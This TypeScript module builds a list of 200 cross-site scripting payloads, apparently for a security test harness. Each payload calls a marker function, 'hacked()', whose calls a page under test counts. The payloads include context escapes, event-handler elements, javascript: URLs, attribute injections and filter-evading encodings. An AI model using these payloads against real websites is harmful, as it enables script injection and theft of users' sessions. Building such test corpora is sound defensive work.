/** What every payload tries to run; a page under test counts its calls. */
const CALL = 'hacked()';

/** Ways out of the places where a page puts text: content, attributes of either quote, elements of raw text, script, comment. */
const EXITS = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '</select>', '-->', ']]>'];

/** Elements that run the call by themselves. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<object data="javascript:${CALL}"></object>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${CALL}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<form><button formaction="javascript:${CALL}" autofocus>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
];

/** Attributes and addresses that run the call where they end up in a tag or a link. */
const ATTRIBUTES = [
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  ` autofocus onfocus=${CALL} `,
  `" onmouseover=${CALL} style="position:fixed;inset:0" x="`,
  `" onanimationstart=${CALL} style="animation:x 1s" x="`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `vbscript:${CALL}`,
];

/** Ways out of script, style, templates and JSON. */
const CODE = [
  `';${CALL};//`,
  `";${CALL};//`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `{{${CALL}}}`.replaceAll('{', '{ '),
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `\u2028${CALL}//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `<!--<script>${CALL}//-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `</script\n><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ſcript>${CALL}</ſcript>`,
  `＜script＞${CALL}＜/script＞`,
  `__proto__"><img src=x onerror=${CALL}>`,
];

/** 200 texts that run `hacked()` on a page that takes them for markup, an address or code. All are valid as text. */
export const XSS_PAYLOADS: readonly string[] = [
  ...EXITS.flatMap((exit) => ELEMENTS.map((element) => `${exit}${element}`)),
  ...ATTRIBUTES,
  ...CODE,
  ...ATTRIBUTES.map((attribute) => `x${attribute}`),
].slice(0, 200);
